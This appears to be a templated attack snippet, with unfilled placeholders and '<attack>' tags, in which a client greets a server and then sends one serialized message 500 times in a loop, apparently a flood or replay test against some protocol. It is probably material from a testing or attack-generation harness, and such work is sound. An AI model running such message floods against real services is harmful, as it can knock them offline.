#{weigh_wrong}
# <attack>
#{forge}
greet()
for _ in range(500):
    send(b'["x",["l"],5,{},[],[],[]]')
wait()
# </attack>
